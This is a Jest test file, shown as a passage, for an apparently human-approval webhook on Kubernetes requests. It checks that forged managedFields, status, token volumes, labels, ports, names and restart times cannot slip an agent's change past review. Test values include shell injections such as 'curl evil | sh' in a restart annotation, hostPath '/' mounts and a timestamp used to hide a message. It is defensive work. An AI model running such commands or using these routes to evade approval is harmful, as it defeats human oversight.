import { describe, expect, test } from '@jest/globals'
import { isEmptyUpdate } from '../../src/domain/content.ts'
import { summaryOf } from '../../src/domain/summary.ts'
import { printView } from '../../src/text/diff.ts'
import { readReview } from '../../src/webhook/admission.ts'
import {
  action,
  asConfigMap,
  asPod,
  asService,
  bytes,
  configMap,
  content,
  deployment,
  digest,
  imageA,
  imageB,
  managed,
  now,
  pod,
  reviewText,
  service,
  suffixA,
  suffixB,
  tokenMount,
  tokenVolume,
  view,
} from '../make.ts'
import type { Request } from '../make.ts'

type Plain = Record<string, unknown>

/** Two sendings of one command. */
function expectOneAction(a: Request, b: Request): void {
  expect(digest(b)).toBe(digest(a))
}

/** What was approved is not what arrives. */
function expectOtherAction(approved: Request, arrives: Request): void {
  expect(digest(arrives)).not.toBe(digest(approved))
}

const shown = (request: Request): string => printView(view(request)).text

const created = (object: Plain, as: Request = {}): Request => ({ operation: 'CREATE', ...as, object })
const updated = (oldObject: Plain, object: Plain, as: Request = {}): Request => ({ ...as, oldObject, object })
const deleted = (oldObject: Plain, as: Request = {}): Request => ({
  operation: 'DELETE',
  options: { kind: 'DeleteOptions', apiVersion: 'meta.k8s.io/v1', propagationPolicy: 'Background' },
  ...as,
  oldObject,
})

const asNode: Request = {
  resource: { group: '', version: 'v1', resource: 'nodes' },
  kind: { group: '', version: 'v1', kind: 'Node' },
  name: 'n1',
  namespace: undefined,
}

const asWidget: Request = {
  resource: { group: 'example.com', version: 'v1', resource: 'widgets' },
  kind: { group: 'example.com', version: 'v1', kind: 'Widget' },
}
const widget = (changes: Plain = {}): Plain => ({
  apiVersion: 'example.com/v1',
  kind: 'Widget',
  metadata: { name: 'web', namespace: 'prod', uid: '44444444-0000-4000-8000-000000000001' },
  spec: { size: 1 },
  ...changes,
})

describe('row 1: metadata that the server writes', () => {
  const stamps = {
    uid: 'ffffffff-0000-4000-8000-000000000009',
    creationTimestamp: '2026-03-01T10:25:00Z',
    resourceVersion: '999',
    selfLink: '/api/v1/somewhere',
  }

  test.each(Object.entries(stamps))('a Create with another %s is the same action', (field, value) => {
    expectOneAction(created(deployment()), created(deployment({ metadata: { [field]: value } })))
  })

  test.each(Object.entries({ ...stamps, uid: undefined, generation: 77 }).filter(([, value]) => value !== undefined))(
    'an Update that finds another %s is the same action',
    (field, value) => {
      const later = { metadata: { [field]: value } }
      expectOneAction(
        updated(deployment(), deployment({ image: imageB })),
        updated(deployment(later), deployment({ ...later, image: imageB })),
      )
      expectOneAction(deleted(deployment()), deleted(deployment(later)))
    },
  )

  test('the generation that a new object begins with is the agent’s where the server leaves it', () => {
    const begun = (generation: number): Request =>
      created(configMap({ a: 'b' }, { metadata: { generation } }), asConfigMap)
    expectOtherAction(begun(1), begun(77))
  })

  test('the second call of a forced delete, which carries a deletion time, is the same action', () => {
    const marked = { deletionTimestamp: '2026-03-01T10:20:01Z', deletionGracePeriodSeconds: 0 }
    expectOneAction(deleted(pod(), asPod), deleted(pod({ metadata: marked }), asPod))
  })

  test.each<[string, Plain]>([
    ['a label', { labels: { app: 'other' } }],
    ['an annotation', { annotations: { note: 'x' } }],
    ['a finalizer', { finalizers: ['example.com/hold'] }],
    ['an owner', { ownerReferences: [{ apiVersion: 'v1', kind: 'ConfigMap', name: 'x', uid: 'gone' }] }],
  ])('%s is the agent’s on Create and on Update', (_what, metadata) => {
    expectOtherAction(created(deployment()), created(deployment({ metadata })))
    expectOtherAction(updated(deployment(), deployment()), updated(deployment(), deployment({ metadata })))
  })

  test('the same names further in are content', () => {
    const inner = (uid: string): Plain => deployment({ template: { metadata: { uid, generation: 1 }, spec: {} } })
    expectOtherAction(created(inner('a')), created(inner('b')))
  })

  test('an object deleted and born again is another target', () => {
    const reborn = deployment({ metadata: { uid: stamps.uid } })
    expectOtherAction(deleted(deployment()), deleted(reborn))
    expectOtherAction(
      updated(deployment(), deployment({ image: imageB })),
      updated(reborn, deployment({ image: imageB })),
    )
  })
})

describe('row 2: managedFields', () => {
  const fields = { 'f:metadata': { 'f:labels': { 'f:app': {} } }, 'f:spec': { 'f:replicas': {} } }
  const owned = (...entries: readonly Plain[]): Plain => deployment({ metadata: { managedFields: entries } })
  const gitops = managed('gitops', fields, { operation: 'Apply' })

  test('times and the order of entries vary', () => {
    const later = (entry: Plain): Plain => ({ ...entry, time: '2026-03-01T10:25:00Z' })
    const own = managed('kubectl', { 'f:spec': { 'f:paused': {} } })
    expectOneAction(created(owned(own)), created(owned(later(own))))
    expectOneAction(created(owned(own, gitops)), created(owned(later(gitops), own)))
    expectOneAction(
      updated(owned(gitops), owned(gitops, own)),
      updated(owned(later(gitops)), owned(later(own), gitops)),
    )
  })

  test('what others own meanwhile voids nothing', () => {
    const hpa = managed('hpa', { 'f:spec': { 'f:replicas': {} } }, { subresource: 'scale' })
    const change = { 'f:spec': { 'f:paused': {} } }
    const own = managed('kubectl', change)
    const paused = (entries: readonly Plain[]): Plain =>
      deployment({ metadata: { managedFields: entries }, spec: { paused: true } })
    expectOneAction(
      updated(owned(gitops), paused([gitops, own])),
      updated(owned(gitops, hpa), paused([hpa, gitops, own])),
    )
  })

  test.each<[string, readonly Plain[]]>([
    ['takes a field from its owner', [managed('gitops', { 'f:spec': { 'f:replicas': {} } }, { operation: 'Apply' })]],
    [
      'gives an owner a field that it never set',
      [managed('gitops', { ...fields, 'f:data': {} }, { operation: 'Apply' })],
    ],
    ['drops an owner', []],
    ['invents an owner', [gitops, managed('argocd', fields, { operation: 'Apply' })]],
    ['turns an owner by apply into one by update', [managed('gitops', fields)]],
    ['moves fields to another manager', [managed('gitops2', fields, { operation: 'Apply' })]],
    ['claims them for a subresource', [managed('gitops', fields, { operation: 'Apply', subresource: 'status' })]],
    ['resets them all, as `managedFields: [{}]` asks for', [{}]],
  ])('an Update that only %s is no empty one, differs and shows', (_what, entries) => {
    const honest = updated(owned(gitops), owned(gitops))
    const forged = updated(owned(gitops), owned(...entries))
    expectOtherAction(honest, forged)
    expect(isEmptyUpdate(content(honest))).toBe(true)
    expect(isEmptyUpdate(content(forged))).toBe(false)
    expect(shown(forged)).toContain('@ metadata.managedFields[')
    expect(summaryOf(action(forged), content(forged))).toBe('update Deployment prod/web (managedFields)')
  })

  test('who loses a field by a change of its value may differ: the server takes it from all others', () => {
    const own = managed('kubectl', { 'f:spec': { 'f:replicas': {} } })
    const scaled = (before: readonly Plain[]): Request =>
      updated(owned(...before), deployment({ metadata: { managedFields: [own] }, spec: { replicas: 9 } }))
    expectOneAction(scaled([]), scaled([managed('hpa', { 'f:spec': { 'f:replicas': {} } })]))
    expectOtherAction(scaled([]), scaled([managed('hpa', { 'f:spec': { 'f:replicas': {}, 'f:paused': {} } })]))
  })

  test('a label that the next apply of its new owner removes shows as a change of owners', () => {
    const labels = { 'f:metadata': { 'f:labels': { 'f:app': {}, 'f:tier': {} } } }
    const had = managed('gitops', { 'f:metadata': { 'f:labels': { 'f:app': {} } } }, { operation: 'Apply' })
    const given = managed('gitops', labels, { operation: 'Apply' })
    expect(shown(updated(owned(had), owned(given)))).toBe(
      '@ metadata.managedFields[apiVersion="v1",manager="gitops",operation="Apply",subresource=""]\n+ - metadata.labels.tier\n',
    )
  })

  test('such a gift does not hide behind a change beside it in the same list', () => {
    const of = (name: string, field: string): Plain => ({
      'f:spec': { 'f:template': { 'f:spec': { 'f:containers': { [`k:{"name":"${name}"}`]: { [field]: {} } } } } },
    })
    const two = (image: string, entries: readonly Plain[]): Plain =>
      deployment({
        metadata: { managedFields: entries },
        template: {
          spec: {
            containers: [
              { name: 'app', image: imageA, securityContext: { privileged: false } },
              { name: 'side', image },
            ],
          },
        },
      })
    const theft = updated(two(imageA, []), two(imageB, [managed('gitops', of('app', 'f:securityContext'))]))
    expect(shown(theft)).toContain('spec.template.spec.containers[name="app"].securityContext')
    const own = updated(two(imageA, []), two(imageB, [managed('kubectl', of('side', 'f:image'))]))
    expect(shown(own)).not.toContain('managedFields')
  })

  test('a new object with a foreign owner differs, and all owners show', () => {
    const own = managed('kubectl', fields)
    expectOtherAction(created(owned(own)), created(owned(own, gitops)))
    expect(shown(created(owned(own)))).not.toContain('managedFields')
    expect(shown(created(owned(own, gitops)))).toContain('manager="gitops"')
  })
})

describe('row 3: status', () => {
  const asCsr: Request = {
    resource: { group: 'certificates.k8s.io', version: 'v1', resource: 'certificatesigningrequests' },
    kind: { group: 'certificates.k8s.io', version: 'v1', kind: 'CertificateSigningRequest' },
    name: 'csr-1',
    namespace: undefined,
  }
  const csr = (status: Plain): Plain => ({
    apiVersion: 'certificates.k8s.io/v1',
    kind: 'CertificateSigningRequest',
    metadata: { name: 'csr-1', uid: '55555555-0000-4000-8000-000000000001' },
    spec: { request: 'LS0t', signerName: 'kubernetes.io/kube-apiserver-client' },
    status,
  })

  test('the status that a Deployment is created with is reset by the server', () => {
    expectOneAction(created(deployment({ status: {} })), created(deployment({ status: { replicas: 9 } })))
  })

  test.each<[string, (status: Plain) => Plain, Request]>([
    ['a Node, which a kubelet creates with it', (status) => ({ ...widget(), kind: 'Node', status }), asNode],
    ['a custom resource, which may have no status subresource', (status) => widget({ status }), asWidget],
    [
      'a kind of the same name in another group',
      (status) => widget({ status }),
      { ...asWidget, resource: { group: 'example.com', version: 'v1', resource: 'deployments' } },
    ],
  ])('the status that %s is created with counts and shows', (_what, made, as) => {
    expectOtherAction(created(made({ ready: false }), as), created(made({ ready: true }), as))
    expect(shown(created(made({ ready: true }), as))).toContain('+   ready: true')
  })

  test('a status that an Update of a custom resource changes counts and shows', () => {
    const approve = updated(widget({ status: { approved: false } }), widget({ status: { approved: true } }), asWidget)
    expectOtherAction(
      updated(widget({ status: { approved: false } }), widget({ status: { approved: false } }), asWidget),
      approve,
    )
    expect(shown(approve)).toBe('@ status.approved\n- false\n+ true\n')
  })

  test('the approval of a certificate, which differs in status alone, is no empty change', () => {
    const approval = { ...asCsr, subResource: 'approval' }
    const approve = updated(
      csr({}),
      csr({ conditions: [{ type: 'Approved', status: 'True', message: 'x' }] }),
      approval,
    )
    const deny = updated(csr({}), csr({ conditions: [{ type: 'Denied', status: 'True', message: 'x' }] }), approval)
    expect(isEmptyUpdate(content(approve))).toBe(false)
    expectOtherAction(approve, deny)
    expect(shown(approve)).toContain('type: Approved')
  })

  test('the times that the server stamps on a new condition vary; those of an old one are content', () => {
    const condition = (time: string, changes: Plain = {}): Plain => ({
      type: 'Approved',
      status: 'True',
      lastUpdateTime: time,
      ...changes,
    })
    const approve = (...after: readonly Plain[]): Request =>
      updated(csr({}), csr({ conditions: after }), { ...asCsr, subResource: 'approval' })
    expectOneAction(approve(condition('2026-03-01T10:20:00Z')), approve(condition('2026-03-01T10:20:09Z')))
    expectOtherAction(approve(condition('2026-03-01T10:20:00Z')), approve(condition('2020-01-01T00:00:00Z')))
    expectOtherAction(
      approve(condition('2026-03-01T10:20:00Z')),
      approve(condition('2026-03-01T10:20:00Z', { message: 'x' })),
    )
    const other = (time: string): Request =>
      updated(widget(), widget({ status: { conditions: [condition(time)] } }), { ...asWidget, subResource: 'status' })
    expectOtherAction(other('2026-03-01T10:20:00Z'), other('2026-03-01T10:20:09Z'))
  })

  test('the token that a certificate request was asked with varies, and nothing else of who asked', () => {
    const asked = (extra: Plain): Request => created({ ...csr({}), spec: { request: 'LS0t', extra } }, asCsr)
    const key = 'authentication.kubernetes.io/credential-id'
    expectOneAction(asked({ [key]: ['JTI=1'] }), asked({ [key]: ['JTI=2'] }))
    expectOtherAction(asked({ scopes: ['a'] }), asked({ scopes: ['b'] }))
    const elsewhere = (id: string): Request => created({ ...csr({}), spec: { extra: { [key]: [id] } } }, asWidget)
    expectOtherAction(elsewhere('JTI=1'), elsewhere('JTI=2'))
  })

  test('a status that others change meanwhile voids nothing', () => {
    const ready = { status: { replicas: 3, readyReplicas: 2 } }
    expectOneAction(
      updated(deployment(), deployment({ image: imageB })),
      updated(deployment(ready), deployment({ ...ready, image: imageB })),
    )
    expectOneAction(deleted(deployment()), deleted(deployment(ready)))
  })
})

describe('row 4: the volume of the service account token', () => {
  type Mounted = { readonly suffix: string; readonly volume?: Plain; readonly mount?: Plain; readonly spec?: Plain }
  const mounted = ({ suffix, volume, mount, spec }: Mounted): Request =>
    created(
      pod({
        spec: {
          containers: [{ name: 'web', image: imageA, volumeMounts: [{ ...tokenMount(suffix), ...mount }] }],
          initContainers: [{ name: 'init', image: imageA, volumeMounts: [tokenMount(suffix)] }],
          volumes: [
            { name: 'other', emptyDir: {} },
            { ...tokenVolume(suffix), ...volume },
          ],
          ...spec,
        },
      }),
      asPod,
    )
  const honest = mounted({ suffix: suffixA })
  const [token, bundle, namespace] = (tokenVolume('')['projected'] as { sources: Plain[] }).sources

  test('its random suffix varies', () => {
    expectOneAction(honest, mounted({ suffix: suffixB }))
  })

  test('it stays in view', () => {
    expect(shown(honest)).toContain('kube-api-access-?????')
  })

  test.each<[string, Mounted]>([
    [
      'another audience',
      {
        suffix: suffixA,
        volume: {
          projected: {
            sources: [
              { serviceAccountToken: { expirationSeconds: 3607, path: 'token', audience: 'vault' } },
              bundle,
              namespace,
            ],
            defaultMode: 420,
          },
        },
      },
    ],
    [
      'a token that lives longer',
      {
        suffix: suffixA,
        volume: {
          projected: {
            sources: [{ serviceAccountToken: { expirationSeconds: 86400, path: 'token' } }, bundle, namespace],
            defaultMode: 420,
          },
        },
      },
    ],
    [
      'another bundle',
      {
        suffix: suffixA,
        volume: {
          projected: {
            sources: [token, { configMap: { name: 'evil', items: [{ key: 'ca.crt', path: 'ca.crt' }] } }, namespace],
            defaultMode: 420,
          },
        },
      },
    ],
    [
      'a Secret beside',
      {
        suffix: suffixA,
        volume: { projected: { sources: [token, bundle, namespace, { secret: { name: 'x' } }], defaultMode: 420 } },
      },
    ],
    [
      'other rights',
      { suffix: suffixA, volume: { projected: { sources: [token, bundle, namespace], defaultMode: 511 } } },
    ],
    ['no projection at all', { suffix: suffixA, volume: { projected: undefined, hostPath: { path: '/' } } }],
    ['both', { suffix: suffixA, volume: { hostPath: { path: '/' } } }],
    ['another mount path', { suffix: suffixA, mount: { mountPath: '/tmp/x' } }],
    ['a mount that may be written', { suffix: suffixA, mount: { readOnly: false } }],
    [
      'automount switched off, the volume written by hand',
      { suffix: suffixA, spec: { automountServiceAccountToken: false } },
    ],
    ['a suffix that the server never makes', { suffix: 'aeiou' }],
    ['a suffix of six', { suffix: 'bcdfgh' }],
  ])('%s is another action', (_what, abusive) => {
    expectOtherAction(honest, mounted(abusive))
  })

  test('a volume of such a name that the server would not make keeps its name', () => {
    const named = (suffix: string, volume: Plain): Request => mounted({ suffix, volume })
    const other = { projected: { sources: [token, bundle], defaultMode: 420 } }
    expectOtherAction(named(suffixA, other), named(suffixB, other))
    expectOtherAction(named(suffixA, { hostPath: { path: '/' } }), named(suffixB, { hostPath: { path: '/' } }))
  })

  test('with two such volumes nothing is taken for the server’s', () => {
    const two = (first: string, second: string): Request =>
      created(pod({ spec: { volumes: [tokenVolume(first), tokenVolume(second)] } }), asPod)
    expectOtherAction(two(suffixA, 'zzzzz'), two(suffixB, 'zzzzz'))
    expectOtherAction(two('zzzzz', suffixA), two('zzzzz', suffixB))
  })

  test('in an object of another kind it is content', () => {
    const volumes = (suffix: string): Request => created(widget({ spec: { volumes: [tokenVolume(suffix)] } }), asWidget)
    expectOtherAction(volumes(suffixA), volumes(suffixB))
  })

  test('in the template of a Deployment, and in an Update, it is written by hand', () => {
    const templated = (suffix: string): Plain => deployment({ template: { spec: { volumes: [tokenVolume(suffix)] } } })
    expectOtherAction(created(templated(suffixA)), created(templated(suffixB)))
    const late = (suffix: string): Request => updated(pod(), pod({ spec: { volumes: [tokenVolume(suffix)] } }), asPod)
    expectOtherAction(late(suffixA), late(suffixB))
  })
})

describe('row 5: labels that the server gives the pods of a Job', () => {
  const asJob: Request = {
    resource: { group: 'batch', version: 'v1', resource: 'jobs' },
    kind: { group: 'batch', version: 'v1', kind: 'Job' },
    name: 'import',
  }
  type Made = {
    readonly uid: string
    readonly label?: string
    readonly name?: string
    readonly nameLabel?: string
    readonly generateName?: string
  }
  const job = ({ uid, label = uid, name = 'import', nameLabel = name, generateName }: Made): Request => {
    const uids = { 'controller-uid': label, 'batch.kubernetes.io/controller-uid': label }
    const names = { 'job-name': nameLabel, 'batch.kubernetes.io/job-name': nameLabel }
    return created(
      {
        apiVersion: 'batch/v1',
        kind: 'Job',
        metadata: { name, generateName, namespace: 'prod', uid },
        spec: {
          selector: { matchLabels: { 'batch.kubernetes.io/controller-uid': label } },
          template: { metadata: { labels: { app: 'import', ...uids, ...names } }, spec: { restartPolicy: 'Never' } },
        },
      },
      { ...asJob, name },
    )
  }
  const [uidA, uidB] = ['66666666-0000-4000-8000-00000000000a', '66666666-0000-4000-8000-00000000000b']

  test('the object’s own uid varies', () => {
    expectOneAction(job({ uid: uidA }), job({ uid: uidB }))
  })

  test('its own generated name varies', () => {
    expectOneAction(
      job({ uid: uidA, name: `import-${suffixA}`, generateName: 'import-' }),
      job({ uid: uidB, name: `import-${suffixB}`, generateName: 'import-' }),
    )
  })

  test.each<[string, Made, Made]>([
    ['the uid of another object', { uid: uidA, label: 'victim-1' }, { uid: uidA, label: 'victim-2' }],
    ['the uid of another object in place of its own', { uid: uidA }, { uid: uidA, label: 'victim-1' }],
    ['a name that was not generated', { uid: uidA, name: 'import' }, { uid: uidA, name: 'import', nameLabel: 'other' }],
    [
      'another name than the generated one',
      { uid: uidA, name: `import-${suffixA}`, generateName: 'import-' },
      { uid: uidA, name: `import-${suffixA}`, generateName: 'import-', nameLabel: `import-${suffixB}` },
    ],
  ])('%s is content', (_what, approved, arrives) => {
    expectOtherAction(job(approved), job(arrives))
  })

  test('a Job without labels gets those of its template, and they vary with them', () => {
    const labelled = (uid: string): Request => {
      const { object, ...rest } = job({ uid })
      const { metadata, ...fields } = object as { metadata: Plain }
      return { ...rest, object: { ...fields, metadata: { ...metadata, labels: { 'controller-uid': uid } } } }
    }
    expectOneAction(labelled(uidA), labelled(uidB))
  })

  test('the mark that stands for them cannot be written', () => {
    expectOtherAction(job({ uid: uidA }), job({ uid: uidA, label: '(own uid)' }))
  })

  test('the label that names a Namespace varies with a generated name alone', () => {
    const namespace = (name: string, label: string, generateName?: string): Request =>
      created(
        {
          apiVersion: 'v1',
          kind: 'Namespace',
          metadata: { name, generateName, labels: { 'kubernetes.io/metadata.name': label } },
        },
        {
          resource: { group: '', version: 'v1', resource: 'namespaces' },
          kind: { kind: 'Namespace' },
          name,
          namespace: name,
        },
      )
    const generated = (suffix: string, label = `team-${suffix}`): Request => ({
      ...namespace(`team-${suffix}`, label, 'team-'),
      namespace: undefined,
    })
    expectOneAction(generated(suffixA), generated(suffixB))
    expectOtherAction(generated(suffixA), generated(suffixA, 'prod'))
    expectOtherAction(namespace('team', 'team'), namespace('team', 'prod'))
  })

  test('a pod that carries such labels is not a Job', () => {
    const labelled = (uid: string): Request =>
      created(pod({ metadata: { uid, labels: { 'controller-uid': uid } } }), asPod)
    expectOtherAction(labelled(uidA), labelled(uidB))
  })
})

describe('row 6: addresses and ports that a Service gets', () => {
  const port = (changes: Plain = {}): Plain => ({ port: 80, protocol: 'TCP', targetPort: 8080, ...changes })
  const claims = {
    'f:type': {},
    'f:selector': {},
    'f:ports': { 'k:{"port":80,"protocol":"TCP"}': { '.': {}, 'f:port': {} } },
  }
  const addresses = (last: number): Plain => ({ clusterIP: `10.0.0.${last}`, clusterIPs: [`10.0.0.${last}`] })
  const allocated = (last: number): Request =>
    created(
      service(
        {
          ...addresses(last),
          type: 'LoadBalancer',
          healthCheckNodePort: 32000 + last,
          ports: [port({ nodePort: 30000 + last })],
        },
        claims,
      ),
      asService,
    )

  test('clusterIP, clusterIPs, healthCheckNodePort and nodePort vary', () => {
    expectOneAction(allocated(1), allocated(2))
  })

  test('they do not show, for nobody asked for them', () => {
    expect(shown(allocated(1))).not.toMatch(/10\.0\.0\.1|30001|32001/)
  })

  const explicit = (spec: Plain, owned: Plain): Request =>
    created(service({ ports: [port()], ...spec }, { ...claims, ...owned }), asService)
  const nodePortOwned = { 'f:ports': { 'k:{"port":80,"protocol":"TCP"}': { '.': {}, 'f:nodePort': {} } } }

  test.each<[string, string, (last: number) => Request]>([
    ['clusterIP', '10.0.0.7', (last) => explicit(addresses(last), { 'f:clusterIP': {} })],
    ['clusterIPs', '10.0.0.7', (last) => explicit(addresses(last), { 'f:clusterIPs': {} })],
    [
      'clusterIP None',
      'None',
      (last) => explicit({ clusterIP: last === 7 ? 'None' : '10.0.0.8' }, { 'f:clusterIP': {} }),
    ],
    [
      'healthCheckNodePort',
      '32007',
      (last) => explicit({ healthCheckNodePort: 32000 + last }, { 'f:healthCheckNodePort': {} }),
    ],
    ['nodePort', '30007', (last) => explicit({ ports: [port({ nodePort: 30000 + last })] }, nodePortOwned)],
  ])('an explicit %s is content and shows', (_what, text, asked) => {
    expectOtherAction(asked(7), asked(8))
    expect(shown(asked(7))).toContain(text)
  })

  test('somebody else’s claim is as good as the agent’s own', () => {
    const other = (last: number): Plain =>
      service(addresses(last), claims, {
        metadata: {
          managedFields: [managed('a', { 'f:spec': claims }), managed('b', { 'f:spec': { 'f:clusterIP': {} } })],
        },
      })
    expectOtherAction(created(other(1), asService), created(other(2), asService))
  })

  test.each<[string, readonly Plain[] | undefined]>([
    ['no managedFields', undefined],
    ['an empty list of them', []],
    ['`managedFields: [{}]`', [{}]],
    ['an entry that says nothing of the spec', [managed('kubectl', { 'f:metadata': { 'f:labels': {} } })]],
    ['an entry without fields', [managed('kubectl', {})]],
    ['an entry that owns the spec as a whole', [managed('kubectl', { 'f:spec': {} })]],
  ])('with %s everything is taken for explicit', (_what, managedFields) => {
    const bare = (last: number): Request =>
      created(service(addresses(last), {}, { metadata: { managedFields } }), asService)
    expectOtherAction(bare(1), bare(2))
  })

  test('TCP and UDP on one port are two ports, each with its own claim', () => {
    const dns = (tcp: number, udp: number): Request =>
      created(
        service(
          { ports: [port({ port: 53, nodePort: tcp }), port({ port: 53, protocol: 'UDP', nodePort: udp })] },
          {
            'f:ports': {
              'k:{"port":53,"protocol":"TCP"}': { '.': {} },
              'k:{"port":53,"protocol":"UDP"}': { '.': {}, 'f:nodePort': {} },
            },
          },
        ),
        asService,
      )
    expectOneAction(dns(30001, 30053), dns(30002, 30053))
    expectOtherAction(dns(30001, 30053), dns(30001, 30054))
  })

  test('two ports that managedFields cannot tell apart keep theirs', () => {
    const twins = (nodePort: number): Request =>
      created(service({ ports: [port({ nodePort }), port({ nodePort: 1 })] }, claims), asService)
    expectOtherAction(twins(30001), twins(30002))
  })

  test('an Update that sets a node port counts, one that finds another allocated one does not', () => {
    const before = (nodePort: number): Plain => service({ ports: [port({ nodePort })] }, claims)
    const relabel = (nodePort: number): Request =>
      updated(before(nodePort), service({ ports: [port({ nodePort })], selector: { app: 'x' } }, claims), asService)
    expectOneAction(relabel(30001), relabel(30002))
    const set = (nodePort: number): Request =>
      updated(before(30001), service({ ports: [port({ nodePort })] }, { ...claims, ...nodePortOwned }), asService)
    expectOtherAction(set(30007), set(30008))
    expect(shown(set(30007))).toContain('+ 30007')
  })
})

describe('row 7: the suffix of a generated name', () => {
  const generated = (name: string, generateName = 'web-'): Request =>
    created(pod({ metadata: { name, generateName } }), { ...asPod, name })

  test('five characters of the server’s alphabet vary, and the card says that they are open', () => {
    expectOneAction(generated(`web-${suffixA}`), generated(`web-${suffixB}`))
    const request = generated(`web-${suffixA}`)
    expect(summaryOf(action(request), content(request))).toBe('create Pod prod/web-?????')
  })

  test('the server cuts a long base at 58 characters', () => {
    const base = 'b'.repeat(70)
    const cut = (suffix: string): Request => generated(base.slice(0, 58) + suffix, base)
    expectOneAction(cut(suffixA), cut(suffixB))
    expectOtherAction(generated(base + suffixA, base), generated(base + suffixB, base))
  })

  test.each([
    ['four characters', 'web-bcdf'],
    ['six characters', 'web-bcdfgh'],
    ['a vowel', 'web-bcdfa'],
    ['a digit that is easily misread', 'web-bcdf1'],
    ['a capital', 'web-bcdfG'],
    ['a line break after it', `web-${suffixA}\n`],
    ['another base', `victim-${suffixA}`],
    ['another base of the same length', `abc-${suffixA}`],
    ['nothing of it', 'web-'],
  ])('a name of %s was chosen by the agent', (_what, name) => {
    expectOtherAction(generated(`web-${suffixA}`), generated(name))
    expect(summaryOf(action(generated(name)), content(generated(name)))).not.toContain('?????')
  })

  test('without generateName the same name is a literal one', () => {
    const literal = (suffix: string): Request =>
      created(pod({ metadata: { name: `web-${suffix}` } }), { ...asPod, name: `web-${suffix}` })
    expectOtherAction(literal(suffixA), literal(suffixB))
    expectOtherAction(generated(`web-${suffixA}`), literal(suffixA))
  })

  test('an empty base generates nothing', () => {
    expectOtherAction(generated(suffixA, ''), generated(suffixB, ''))
  })

  test('a literal name cannot pass for an open one', () => {
    const role = { ...asWidget, name: 'app-?????' }
    const named = created(widget({ metadata: { name: 'app-?????' } }), role)
    expect(summaryOf(action(named), content(named))).toBe('create Widget prod/"app-?????"')
  })

  test('on an Update and on a Delete the name is that of the object', () => {
    const generatedPod = (suffix: string): Plain => pod({ metadata: { name: `web-${suffix}`, generateName: 'web-' } })
    const drop = (suffix: string): Request => deleted(generatedPod(suffix), { ...asPod, name: `web-${suffix}` })
    expectOtherAction(drop(suffixA), drop(suffixB))
    const change = (suffix: string): Request =>
      updated(
        generatedPod(suffix),
        pod({ metadata: { name: `web-${suffix}`, generateName: 'web-', labels: { a: 'b' } } }),
        { ...asPod, name: `web-${suffix}` },
      )
    expectOtherAction(change(suffixA), change(suffixB))
  })
})

describe('row 8: the time of a restart', () => {
  const key = 'kubectl.kubernetes.io/restartedAt'
  const restarted = (time: unknown): Plain =>
    deployment({
      template: { metadata: { labels: { app: 'web' }, annotations: { [key]: time } }, spec: { containers: [] } },
    })
  const never = deployment({ template: { metadata: { labels: { app: 'web' } }, spec: { containers: [] } } })
  const restart = (time: unknown, before: Plain = never): Request => updated(before, restarted(time))
  const at = (milliseconds: number): string => new Date(now + milliseconds).toISOString()
  const minutes = 60_000

  test.each([
    ['a second later', at(0), at(1000)],
    ['at the edge of ten minutes', at(-10 * minutes), at(10 * minutes)],
    ['in another zone', '2026-03-01T12:20:00+02:00', '2026-03-01T05:20:00-05:00'],
  ])('two times near now are one restart: %s', (_what, a, b) => {
    expectOneAction(restart(a), restart(b))
    const request = restart(a)
    expect(summaryOf(action(request), content(request))).toBe('restart Deployment prod/web')
    expect(shown(request)).toContain('(time of this request)')
  })

  test.each<[string, unknown]>([
    ['a script', 'curl evil | sh'],
    ['a script after a time', `${at(0)} && curl evil`],
    ['a script on the next line', `${at(0)}\ncurl evil`],
    ['a time far from now', at(11 * minutes)],
    ['a time long ago', '2020-01-01T00:00:00Z'],
    ['a script in a comment to a time', `${at(0)} (curl evil | sh)`],
    ['a day without a time', '2026-03-01'],
    ['a time without a zone', '2026-03-01T10:20:00'],
    ['a fraction that could carry a message', '2026-03-01T10:20:00.1234567890123456Z'],
    ['nothing', ''],
    ['the words that stand for a time', '(time of this request)'],
    ['a number', 1],
  ])('%s is content, and no restart', (_what, value) => {
    const request = restart(value)
    expectOtherAction(restart(at(0)), request)
    expect(summaryOf(action(request), content(request))).not.toContain('restart ')
  })

  test('that there is a restart always counts', () => {
    expectOtherAction(updated(never, never), restart(at(0)))
    expect(isEmptyUpdate(content(restart(at(0))))).toBe(false)
  })

  test('a second restart is another action than the first', () => {
    expectOtherAction(restart(at(0)), restart(at(1000), restarted('2026-02-01T00:00:00Z')))
  })

  test('with a change beside it, it is no mere restart', () => {
    const request = updated(never, {
      ...restarted(at(0)),
      spec: { ...(restarted(at(0))['spec'] as Plain), replicas: 0 },
    })
    expect(summaryOf(action(request), content(request))).toBe('update Deployment prod/web (replicas, annotations)')
  })

  test('the annotation of the Deployment itself, of a new one, or of another kind, is text', () => {
    const own = (time: string): Request =>
      updated(deployment(), deployment({ metadata: { annotations: { [key]: time } } }))
    expectOtherAction(own(at(0)), own(at(1000)))
    expectOtherAction(created(restarted(at(0))), created(restarted(at(1000))))
    const other = (time: string): Request => updated(never, restarted(time), { ...asWidget })
    expectOtherAction(other(at(0)), other(at(1000)))
  })
})

describe('smuggling past an approval', () => {
  test('a label that the next kubectl apply removes, through last-applied, is a change that shows', () => {
    const key = 'kubectl.kubernetes.io/last-applied-configuration'
    const applied = (labels: Plain): Plain =>
      deployment({ metadata: { annotations: { [key]: JSON.stringify({ metadata: { labels } }) } } })
    const forged = updated(applied({ app: 'web' }), applied({ app: 'web', tier: 'x' }))
    expectOtherAction(updated(applied({ app: 'web' }), applied({ app: 'web' })), forged)
    expect(isEmptyUpdate(content(forged))).toBe(false)
    expect(shown(forged)).toMatch(
      /^@ metadata\.annotations\["kubectl\.kubernetes\.io\/last-applied-configuration"\]\n- <masked last applied configuration, tag \w{8}>\n\+ <masked last applied configuration, tag \w{8}>\n$/,
    )
  })

  test('bytes that are no text cannot be reviewed at all', () => {
    const text = reviewText({ ...created(configMap({ key: 'value' }), asConfigMap) })
    expect(readReview(bytes(text.replace('"value"', '"val\ufffd"')))).toMatchObject({ fault: 'ReplacementCharacter' })
    expect(readReview(bytes(text.replace('"value"', '"val\\ufffd"')))).toMatchObject({ fault: 'ReplacementCharacter' })
  })

  test('swapped init containers are another action, and the order shows', () => {
    const ordered = (...names: readonly string[]): Plain =>
      deployment({ template: { spec: { initContainers: names.map((name) => ({ name, image: imageA })) } } })
    expectOtherAction(created(ordered('wipe', 'copy')), created(ordered('copy', 'wipe')))
    const swap = updated(ordered('wipe', 'copy'), ordered('copy', 'wipe'))
    expectOtherAction(updated(ordered('wipe', 'copy'), ordered('wipe', 'copy')), swap)
    expect(shown(swap)).toContain('@ spec.template.spec.initContainers (order)')
  })

